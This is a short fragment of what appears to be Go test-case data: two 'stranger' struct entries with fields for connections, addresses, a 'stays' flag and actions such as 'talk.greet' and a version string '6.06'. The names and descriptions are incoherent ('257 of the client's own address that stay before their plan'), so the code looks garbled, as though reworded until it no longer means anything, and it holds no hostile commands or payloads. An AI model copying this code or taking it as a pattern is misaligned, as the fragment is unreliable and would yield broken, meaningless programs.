		stranger{
			name: "257 of the client's own address that stay before their plan", connections: 257, stays: true, does: talk.greet,
		},
		stranger{
			to: "told", name: "6.06, and stays before its page", connections: 256, addresses: 8, stays: true,
			does: says(version("6.06")),
		},
	)
}
